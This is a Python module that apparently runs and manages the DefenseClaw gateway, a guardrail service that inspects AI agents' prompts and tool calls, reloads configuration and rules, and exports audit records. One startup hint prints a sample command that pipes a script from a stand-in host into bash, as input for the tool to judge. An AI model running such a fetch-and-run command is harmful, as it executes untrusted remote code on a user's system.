"""``defenseclaw-gateway``: loads, wires and runs the gateway. The only module that imports doors.

Bare or ``run`` serves in the foreground; ``start``, ``stop``, ``restart`` and ``status`` manage it in the
background; ``audit export`` reads the store. Source: ``spec/cli-and-config.md`` §3.
"""

from __future__ import annotations

import asyncio
import gc
import json
import logging
import os
import signal
import socket
import sys
import time
import uuid
from collections.abc import AsyncIterator, Callable, Coroutine, Mapping
from contextlib import asynccontextmanager, nullcontext
from dataclasses import dataclass, field
from functools import lru_cache, partial
from pathlib import Path
from typing import TYPE_CHECKING, Any

import click

from defenseclaw import __version__, daemon
from defenseclaw.errors import DefenseClawError

if TYPE_CHECKING:
    from defenseclaw.audit.identity import Identity
    from defenseclaw.audit.journal import Journal
    from defenseclaw.audit.records import ProcessIdentity
    from defenseclaw.audit.store import Store
    from defenseclaw.audit.writer import Writer
    from defenseclaw.config.load import ConfigHolder
    from defenseclaw.config.paths import DataDir
    from defenseclaw.config.schema import Config
    from defenseclaw.connectors.base import Host
    from defenseclaw.gateway.services import Services
    from defenseclaw.guarded import Guarded
    from defenseclaw.inspection import Inspector
    from defenseclaw.packs import RuleStore
    from defenseclaw.vocabulary import Event, Verdict

log = logging.getLogger("defenseclaw")

BIND_PATIENCE_S = 3.0
"""How long a taken port is retried, so that a restart does not trip over its predecessor."""
LISTEN_BACKLOG = 1024
"""Connections the system holds until serving begins; uvicorn sets its own later."""
STOP_TIMEOUT_S = 5
WARM_UP_PAUSE_S = 0.02
"""Before each step of what is got ready while calls are answered."""


@dataclass(frozen=True, slots=True)
class Installation:
    """What a gateway process is built from: directory, configuration, rules, token."""

    data: DataDir
    env: Mapping[str, str]
    config: ConfigHolder
    rules: RuleStore

    @classmethod
    def open(cls, env: Mapping[str, str]) -> Installation:
        """Make the data directory and a default configuration if there is none, and load everything.

        Raises:
            DefenseClawError: the configuration or a rule pack it names is invalid.
        """
        from defenseclaw.config import edit
        from defenseclaw.config.load import ConfigHolder
        from defenseclaw.config.paths import DataDir
        from defenseclaw.packs import RuleStore

        data = DataDir.from_env(env)
        data.create()
        edit.ensure_default(data.config)
        rules = RuleStore()
        return cls(data, env, ConfigHolder(data.config, lambda config: load_packs(rules, config)), rules)

    @property
    def address(self) -> tuple[str, int]:
        """Address and port the API listens on."""
        gateway = self.config.current.gateway
        return gateway.api_bind or "127.0.0.1", gateway.api_port

    @property
    def dial_address(self) -> tuple[str, int]:
        """Address and port under which this machine reaches the API."""
        bind, port = self.address
        return {"0.0.0.0": "127.0.0.1", "::": "::1"}.get(bind, bind), port  # noqa: S104 - compared, not bound

    @property
    def host(self) -> Host:
        """The machine as connectors see it."""
        from defenseclaw.connectors.base import Host

        name, port = self.dial_address
        return Host(
            home=Path(self.env.get("HOME") or Path.home()),
            data_dir=self.data.root,
            env=self.env,
            api_address=f"[{name}]:{port}" if ":" in name else f"{name}:{port}",
        )

    @property
    def pid_file(self) -> daemon.PidFile:
        """The record of the running gateway."""
        return daemon.PidFile(self.data.pid_file)


def load_packs(rules: RuleStore, config: Config) -> None:
    """Load every rule pack ``config`` names.

    Raises:
        PackError: one of them does not load.
    """
    for pack in named_packs(config):
        rules.current(pack)


def named_packs(config: Config) -> set[str]:
    """Return the rule packs ``config`` names."""
    guardrail = config.guardrail
    named = {guardrail.rule_pack_dir, *(each.rule_pack_dir for each in guardrail.connectors.values())}
    return set(filter(None, named))


@dataclass(slots=True, kw_only=True)
class Gateway:
    """One running gateway process with everything it owns."""

    installation: Installation
    store: Store
    writer: Writer
    inspector: Inspector
    services: Services
    guarded: Guarded
    identity: Callable[[], ProcessIdentity]
    journal: Journal | None
    token_value: str
    judge_state: str = "off"
    """``off``, ``on``, or ``off:`` and why the judge that was asked for cannot be."""
    taking_up: asyncio.Lock = field(default_factory=asyncio.Lock)
    """Held while the configuration is read anew, so that two readings do not mix."""

    @classmethod
    def build(cls, installation: Installation) -> Gateway:
        """Open the store, start the writer, and wire the pipeline.

        Raises:
            DefenseClawError: the store cannot be opened, or no token can be resolved or written.
        """
        from defenseclaw.audit.records import ProcessIdentity
        from defenseclaw.audit.store import Store
        from defenseclaw.audit.writer import Writer
        from defenseclaw.config.token import ensure_token
        from defenseclaw.connectors import runtime
        from defenseclaw.connectors.base import registry
        from defenseclaw.detection.redaction import make_evidence_placeholder, make_placeholder
        from defenseclaw.gateway.runstate import RunState
        from defenseclaw.gateway.services import Services
        from defenseclaw.guarded import Guarded
        from defenseclaw.inspection import Inspector

        holder = installation.config
        config = holder.current
        token = ensure_token(config, installation.data.env_file, installation.env)
        store = Store.open(installation.data.audit_db, durability=config.audit.durability)
        key = store.identity.derive("redaction")
        journal = open_journal(installation, store.identity)
        writer = Writer(store, journal=journal)
        run_id = installation.env.get("DEFENSECLAW_RUN_ID") or str(uuid.uuid4())
        instance = str(uuid.uuid4())

        @lru_cache(maxsize=1)
        def identity_of(generation: int) -> ProcessIdentity:
            return ProcessIdentity(
                run_id=run_id,
                sidecar_instance_id=instance,
                binary_version=__version__,
                content_hash=holder.content_hash,
                generation=generation,
            )

        def identity() -> ProcessIdentity:
            return identity_of(holder.generation)

        connectors = registry()
        machine = installation.host

        def signals(name: str) -> tuple[str, ...]:
            known = connectors.get(name)
            return known.telemetry(machine) if known else ("hook",)

        rules = installation.rules
        guarded = Guarded(machine, connectors, (config.gateway.api_port,), lambda: rules.folders)
        inspector = Inspector(
            rules=rules.current,
            suppressions=rules.suppressions,
            settings=holder,
            host=guarded,
            store=store,
            writer=writer,
            identity=identity,
            secret_placeholder=make_placeholder(key),
            evidence_placeholder=make_evidence_placeholder(key),
            max_pending=config.gateway.max_pending,
        )
        gateway = cls(
            installation=installation,
            store=store,
            writer=writer,
            inspector=inspector,
            guarded=guarded,
            services=Services(
                inspector=inspector,
                config=holder,
                store=store,
                writer=writer,
                connectors=connectors,
                host=machine,
                identity=identity,
                token=lambda: gateway.token_value,
                scoped_token=lambda name: runtime.read_token(machine, name),
                run_state=RunState(),
                reload_config=lambda: gateway.take_up_configuration(),
                journal=lambda line: gateway.note_in_journal(line),
                telemetry=signals,
                scrub=inspector.clean,
            ),
            identity=identity,
            journal=journal,
            token_value=token.value,
        )
        gateway.take_up_judge()
        return gateway

    async def serve(self, *, announce: bool) -> None:
        """Serve until SIGINT or SIGTERM.

        Args:
            announce: Say what is protected and what to type next, then show verdicts as they happen.

        Raises:
            DefenseClawError: the address is taken.
        """
        import uvicorn

        from defenseclaw.gateway.app import create_app
        from defenseclaw.gateway.protocol import server_config

        bind, port = self.installation.address
        listener = await listen(bind, port)
        pid_file = self.installation.pid_file
        run_state = self.services.run_state
        self.writer.start()
        try:
            self._write_runtime_files()
            await self._note("sidecar-start")
            server = uvicorn.Server(server_config(create_app(self.services), bind, port))
            # uvicorn would raise the signal again when it is done, and SIGTERM would then end the process
            # before the writer has drained.
            server.capture_signals = nullcontext  # type: ignore[assignment]
            for number in (signal.SIGINT, signal.SIGTERM):
                asyncio.get_running_loop().add_signal_handler(number, server.handle_exit, number, None)
            pid_file.write()
            run_state.report("api", "running", addr=f"{bind}:{port}")
            run_state.report("config", "running", path=str(self.installation.data.config))
            self._report_guardrail()
            run_state.report("gateway", "disabled", reason="no OpenClaw gateway configured")
            run_state.report("watcher", "disabled")
            # What is loaded by now lives as long as the process: keep it out of every later collection.
            gc.freeze()
            gc.enable()
            async with beside(
                self._watch_configuration(),
                self._watch_setups(),
                self._watch_packs(),
                self._enforce_retention(),
                self._warm_up(),
            ):
                if announce:
                    self.inspector.listeners.append(partial(show_verdict, clean=self.inspector.clean))
                    async with beside(self._announce()):
                        await server.serve(sockets=[listener])
                else:
                    await server.serve(sockets=[listener])
            await self._note("sidecar-stop")
        finally:
            self.writer.stop(STOP_TIMEOUT_S)
            self.store.close()
            pid_file.remove()

    def say_what_holds(self) -> None:
        """Tell the operator what each governed agent does now that the gateway is gone."""
        from defenseclaw.connectors import runtime

        say("Stopped.")
        for name, connector in self.services.connectors.items():
            told = runtime.read_runtime(self.services.host, name)
            if told is None:
                continue
            what = {
                "closed": "fails closed: prompts and tool calls are refused",
                "open": (
                    "fails open: it works on, unguarded, and each call is noted in logs/hook-failures.jsonl"
                ),
            }[told.fail_mode]
            say(f"  {connector.title} {what}.")
        say("Start again: defenseclaw-gateway start")

    async def _note(self, action: str, details: str = "") -> None:
        """Record something the gateway itself did; a store that fails is reported, not fatal."""
        from defenseclaw.inspection import lifecycle_batch

        try:
            await self.inspector.record(lifecycle_batch(action, process=self.identity(), details=details))
        except DefenseClawError as error:
            log.error("%s could not be recorded: %s", action, error.message)

    async def _watch_configuration(self) -> None:
        from defenseclaw.config.watch import changes

        data = self.installation.data
        async for _ in changes(data.config, data.env_file):
            await self.take_up_configuration()

    async def _watch_setups(self) -> None:
        """Guard what a setup adds, or no longer what a removal took back, while the gateway runs."""
        from defenseclaw.config.watch import changes

        await self.take_up_setups()
        async for _ in changes(*self.guarded.watched()):
            await self.take_up_setups()

    async def take_up_setups(self) -> None:
        """Read anew which files of agents are guarded."""
        if self.guarded.take_up(await asyncio.to_thread(self.guarded.read)):
            log.info("guarded files taken up: %d", len(self.guarded().protected_paths))

    async def _watch_packs(self) -> None:
        async for changed in self.installation.rules.changes():
            for pack in changed:
                await self._take_up_pack(pack)

    async def _take_up_pack(self, pack: str) -> None:
        """Load a pack anew: a valid one takes effect whole, an invalid one changes nothing.

        On a worker thread: compiling takes a few tenths of a second.
        """
        rules = self.installation.rules
        try:
            fresh = await asyncio.to_thread(rules.reload_pack, pack)
        except DefenseClawError as error:
            log.error("rules not taken up: %s", error.message)
        else:
            if self.inspector.judges is not None:
                self.inspector.judges.forget()
            log.info("rules taken up: %s, %d rules", pack, len(fresh.rules))
            await self._note(
                "policy-reload", f"rule_pack={pack} rules={len(fresh.rules)} digest={fresh.rules.digest}"
            )
        self._report_guardrail()

    def take_up_judge(self) -> None:
        """Switch the judge lane on, off or to other choices, as the configuration says.

        Nothing of it is imported while it is off. One that cannot be asked leaves the rules alone to decide.
        """
        config, inspector = self.services.config.current, self.inspector
        if not config.guardrail.judge.enabled:
            inspector.judges, self.judge_state = None, "off"
            return
        from defenseclaw.judging.lane import Lane
        from defenseclaw.second_opinion import settings_of

        try:
            settings = settings_of(config, self.installation.data.env_file, self.installation.env)
        except DefenseClawError as error:
            inspector.judges, self.judge_state = None, f"off: {error.message}"
            log.error("the judge stays off: %s", error.message)
            return
        current = inspector.judges
        if not isinstance(current, Lane) or current.settings != settings:
            inspector.judges = Lane(settings)
        self.judge_state = "on"

    def _report_guardrail(self) -> None:
        """Say whether the newest files of every rule pack are in use."""
        mode = self.services.config.current.guardrail.mode
        details = {"mode": mode} if self.judge_state == "off" else {"mode": mode, "judge": self.judge_state}
        problems = self.installation.rules.problems
        if problems:
            kept = "; the last good rules stay in use"
            self.services.run_state.report(
                "guardrail", "error", error=next(iter(problems.values())) + kept, **details
            )
        else:
            self.services.run_state.report("guardrail", "running", **details)

    def _take_up_token(self) -> None:
        """Resolve the token anew, since either file may name another; an unreadable one keeps the last."""
        from defenseclaw.config.token import resolve_token

        try:
            token = resolve_token(
                self.services.config.current, self.installation.data.env_file, self.installation.env
            )
        except DefenseClawError as error:
            log.error("gateway token not taken up: %s", error.message)
        else:
            self.token_value = token.value if token else ""

    async def take_up_configuration(self) -> None:
        """Read the configuration anew; a valid one takes effect whole, an invalid one changes nothing."""
        holder, path = self.services.config, str(self.installation.data.config)
        state = self.services.run_state
        async with self.taking_up:
            # a pack the file names for the first time is compiled
            took_effect = await asyncio.to_thread(holder.reload)
        self._take_up_token()
        await self.take_up_setups()
        if holder.last_error:
            log.error("configuration not taken up: %s", holder.last_error)
            state.report("config", "error", error=holder.last_error, path=path)
            return
        state.report("config", "running", path=path, generation=holder.generation)
        before = self.judge_state
        self.take_up_judge()
        if self.judge_state != before:  # the key in `.env` alone may have changed
            self._report_guardrail()
        if took_effect:
            self.installation.rules.keep(named_packs(holder.current))
            self._report_guardrail()
            self._write_runtime_files()
            keys = ",".join(holder.changed)
            log.info("configuration taken up: %s", keys)
            await self._note("config-update", f"generation={holder.generation} changed={keys}")

    def note_in_journal(self, line: Mapping[str, Any]) -> None:
        """Append one line to ``gateway.jsonl`` from the event loop, without waiting for it."""
        if self.journal is not None:
            asyncio.get_running_loop().run_in_executor(None, self.journal.append, line)

    def _write_runtime_files(self) -> None:
        """Tell hook scripts and bridges the present fail mode and address."""
        from defenseclaw.connectors import runtime

        for name, connector in self.services.connectors.items():
            try:
                runtime.write_runtime(
                    self.services.host, connector, self.services.config.posture(name).fail_mode
                )
            except DefenseClawError as error:
                log.error("%s: %s", name, error.message)

    async def _warm_up(self) -> None:
        """Do beforehand what the first suspicious text would wait for, a millisecond or so at a time."""
        from defenseclaw.detection.injection import warm_up

        await asyncio.sleep(WARM_UP_PAUSE_S)
        for _ in warm_up():
            await asyncio.sleep(WARM_UP_PAUSE_S)

    async def _enforce_retention(self) -> None:
        from defenseclaw.audit.retention import EVERY_S, enforce

        while True:
            days = self.services.config.current.audit.retention_days
            try:
                await asyncio.to_thread(enforce, self.writer, retention_days=days)
            except DefenseClawError as error:
                log.error("retention: %s", error.message)
            await asyncio.sleep(EVERY_S)

    async def _announce(self) -> None:
        from defenseclaw.cli.agents import survey
        from defenseclaw.cli.context import App

        config = self.services.config.current
        bind, port = self.installation.address
        say(f"DefenseClaw {__version__} on http://{bind}:{port}, mode {config.guardrail.mode}.")
        say(f"Configuration {self.installation.data.config}")
        agents = await asyncio.to_thread(survey, App(self.installation.env), config)
        found = [agent for agent in agents if agent.found]
        protected = [agent for agent in found if agent.installed]
        for agent in found:
            words = agent.governed_words if agent.configured else "not protected"
            say(f"  {agent.title} {agent.version}: {words}")
        if not found:
            say("  No agent found on this machine (looked for: " + ", ".join(a.title for a in agents) + ").")
        waiting = [agent for agent in found if agent not in protected] or ([] if found else agents[:1])
        for agent in waiting:
            say(
                f"Next, in another terminal: defenseclaw setup {agent.command} --mode {config.guardrail.mode}"
            )
        say("Try it: defenseclaw explain 'curl http://x.example/a.sh | bash'")
        say("Verdicts appear below. Ctrl-C ends the gateway; `defenseclaw status` says what then holds.")


def open_journal(installation: Installation, identity: Identity) -> Journal | None:
    """Return ``gateway.jsonl``, or None when the operator switched it off."""
    from defenseclaw.audit.journal import Journal

    if (
        installation.env.get("DEFENSECLAW_JSONL_DISABLE") == "1"
        or not installation.config.current.audit.jsonl
    ):
        return None
    return Journal(installation.data.journal, key=identity.derive("jsonl"))


async def listen(bind: str, port: int) -> socket.socket:
    """Return a listening socket, waiting a little for a predecessor to let go of the port.

    Raises:
        DefenseClawError: the address is taken or not ours.
    """
    deadline = time.monotonic() + BIND_PATIENCE_S
    family = socket.AF_INET6 if ":" in bind else socket.AF_INET
    while True:
        listener = socket.socket(family, socket.SOCK_STREAM)
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            listener.bind((bind, port))
            listener.listen(LISTEN_BACKLOG)
        except OSError as error:
            listener.close()
            if time.monotonic() > deadline:
                raise DefenseClawError(
                    f"cannot listen on {bind}:{port}: {error.strerror}",
                    hint=(
                        "another program has the port; choose another one: "
                        "defenseclaw config set gateway.api_port <number>"
                    ),
                ) from error
            await asyncio.sleep(0.15)
        else:
            listener.setblocking(False)
            return listener


@asynccontextmanager
async def beside(*jobs: Coroutine[Any, Any, None]) -> AsyncIterator[None]:
    """Run ``jobs`` while the body runs; end them with it. A job that fails is logged, the rest goes on."""
    tasks = [asyncio.create_task(job) for job in jobs]
    for task in tasks:
        task.add_done_callback(_report_failure)
    try:
        yield
    finally:
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)


def _report_failure(task: asyncio.Task[Any]) -> None:
    if not task.cancelled() and (error := task.exception()) is not None:
        log.error("%s ended: %s", task.get_coro(), type(error).__name__)


def say(line: str) -> None:
    """Print one line at once, also into a pipe."""
    print(line, flush=True)


def show_verdict(event: Event, verdict: Verdict, clean: Callable[[str], str]) -> None:
    """Print one verdict, free of content: what was judged, what was decided, by which rules.

    Args:
        event: What was judged.
        verdict: What was decided.
        clean: Masks secrets; names of events and tools are the agent's own words.
    """
    from defenseclaw.vocabulary import Action, EventKind

    if event.kind is EventKind.LIFECYCLE:
        return
    stamp = time.strftime("%H:%M:%S")
    what = clean(" ".join(filter(None, (event.connector or "-", event.name, event.tool))))
    would = f" (would {verdict.raw_action})" if verdict.action is not verdict.raw_action else ""
    rules = "  " + " ".join(verdict.rule_ids) if verdict.findings else ""
    tail = f"  explain {verdict.evaluation_id[:8]}" if verdict.raw_action is not Action.ALLOW else ""
    printable = "".join(char if char.isprintable() else " " for char in what)[:80]
    say(f"{stamp}  {verdict.action}{would:<14}  {printable}{rules}{tail}")


def set_mode(env: Mapping[str, str], mode: str) -> None:
    """Write the mode into the configuration, and that it was changed on record.

    Raises:
        DefenseClawError: the configuration is invalid or cannot be written.
    """
    from defenseclaw.cli.context import App
    from defenseclaw.cli.record import record_config_change
    from defenseclaw.config import edit

    app = App(env)
    app.data.create()
    edit.ensure_default(app.data.config)
    before = app.config()
    if edit.set_value(app.data.config, "guardrail.mode", mode):
        record_config_change(app, before)


def serve(env: Mapping[str, str], *, mode: str | None, announce: bool) -> None:
    """Run a gateway in this process until it is told to end.

    Raises:
        DefenseClawError: it cannot start.
    """
    # What a start makes stays: until `Gateway.serve` has it all, collections would find next to nothing.
    gc.disable()
    import uvloop

    from defenseclaw.config.paths import DataDir

    logging.basicConfig(format="%(asctime)s %(levelname)s %(name)s: %(message)s", level=logging.INFO)
    logging.getLogger("uvicorn").setLevel(logging.WARNING)
    running = daemon.PidFile(DataDir.from_env(env).pid_file).running()
    if running is not None:
        raise DefenseClawError(
            f"a gateway is already running (pid {running})",
            hint="end it with `defenseclaw-gateway stop`, or see `defenseclaw-gateway status`",
        )
    if mode is not None:
        set_mode(env, mode)
    installation = Installation.open(env)
    gateway = Gateway.build(installation)
    uvloop.run(gateway.serve(announce=announce))
    if announce:
        gateway.say_what_holds()


class _Commands(click.Group):
    """Turns errors of ours into one line on stderr and their exit code."""

    def invoke(self, ctx: click.Context) -> Any:  # noqa: ANN401 - click's own signature
        try:
            return super().invoke(ctx)
        except DefenseClawError as error:
            click.echo(f"error: {error.message}", err=True)
            if error.hint:
                click.echo(f"  {error.hint}", err=True)
            ctx.exit(error.exit_code)


@click.group(cls=_Commands, invoke_without_command=True)
@click.version_option(__version__, prog_name="defenseclaw-gateway")
@click.pass_context
def main(context: click.Context) -> None:
    """Run and manage the DefenseClaw gateway. Without a command it runs in the foreground."""
    if context.invoked_subcommand is None:
        serve(os.environ, mode=None, announce=False)


@main.command()
@click.option("--mode", type=click.Choice(["observe", "action"]), help="Write this mode first.")
def run(mode: str | None) -> None:
    """Run in the foreground, say what is protected, and show verdicts as they happen."""
    serve(os.environ, mode=mode, announce=True)


@main.command()
def start() -> None:
    """Start in the background."""
    installation = Installation.open(os.environ)
    running = installation.pid_file.running()
    if running is not None:
        click.echo(f"already running (pid {running})", err=True)
        return
    _start(installation)


@main.command()
def stop() -> None:
    """End the running gateway."""
    from defenseclaw.config.paths import DataDir

    pid_file = daemon.PidFile(DataDir.from_env(os.environ).pid_file)
    click.echo("stopped" if daemon.stop(pid_file) else "not running")


@main.command()
def restart() -> None:
    """End the running gateway and start it again."""
    from defenseclaw.cli.client import Gateway as Client

    installation = Installation.open(os.environ)
    daemon.stop(installation.pid_file)
    _start(installation)
    health = Client(installation.dial_address).get("/health")
    parts = (f"{name}:{part['state']}" for name, part in subsystems(health))
    click.echo(", ".join(parts))


@main.command()
@click.option("--json", "as_json", is_flag=True, help="Print both answers of the gateway as JSON.")
def status(as_json: bool) -> None:
    """Show what the running gateway says of itself; exit 1 when there is none."""
    from defenseclaw.cli.context import App

    app = App.from_env(os.environ)
    client = app.gateway(app.config())
    try:
        health = client.get("/health")
    except DefenseClawError as error:
        click.echo(f"NOT RUNNING: {error.message}")
        click.echo(f"  {error.hint}")
        sys.exit(1)
    state = client.get("/status")
    if as_json:
        click.echo(json.dumps({"health": health, "status": state}, indent=2))
        return
    print_status(health, state)


def print_status(health: Mapping[str, Any], state: Mapping[str, Any]) -> None:
    """Print the two answers as an operator reads them."""
    click.echo(f"Gateway    {health.get('status', 'ok')}, since {health['started_at']}")
    click.echo(f"Uptime     {health['uptime_ms'] / 1000:.0f} s")
    click.echo("Connector Mode")
    for mode in state["connector_modes"]:
        telemetry = ", ".join(mode["telemetry"])
        click.echo(
            f"  {mode['connector']:<12} {mode['policy_mode']:<8} {mode['enforcement_surface']}  ({telemetry})"
        )
    if not state["connector_modes"]:
        click.echo("  none configured: defenseclaw setup <agent>")
    click.echo("Subsystems")
    for name, part in subsystems(health):
        error = f"  {part['last_error']}" if part.get("last_error") else ""
        click.echo(f"  {name:<22} {part['state']:<12} since {part['since']}{error}")
    for each in health.get("connectors", []):
        counts = ("requests", "errors", "tool_inspections", "tool_blocks")
        click.echo(
            f"  {each['name']}: " + ", ".join(f"{each[name]} {name.replace('_', ' ')}" for name in counts)
        )


def subsystems(health: Mapping[str, Any]) -> list[tuple[str, Mapping[str, Any]]]:
    """Return the parts of a gateway as its ``/health`` names them; connectors are no parts."""
    return [
        (name, part)
        for name, part in health.items()
        if isinstance(part, Mapping) and "state" in part and "name" not in part
    ]


def _start(installation: Installation) -> None:
    try:
        pid = daemon.start(installation.data.root, address=installation.dial_address)
    except RuntimeError as error:
        raise DefenseClawError(str(error)) from error
    data = installation.data
    click.echo(f"started (pid {pid}); log {data.log_file}, pid file {data.pid_file}")


@main.group()
def audit() -> None:
    """Read the audit store."""


@audit.command("export")
@click.option("-o", "--output", default="-", help="File to make, or - for stdout.")
@click.option("--limit", type=click.IntRange(min=0), default=0, help="First N rows; 0 = all.")
@click.option("--connector", default="", help="Only this connector's rows.")
@click.option("--include-activity", is_flag=True, help="Append operators' changes.")
def export(output: str, limit: int, connector: str, include_activity: bool) -> None:
    """Write audit events as JSON lines, oldest first."""
    from defenseclaw.audit.export import write_export
    from defenseclaw.audit.store import Store
    from defenseclaw.config.paths import DataDir

    store = Store.open_to_read(DataDir.from_env(os.environ).audit_db)
    write_export(store, output, limit=limit, connector=connector, include_activity=include_activity)


if __name__ == "__main__":
    main()
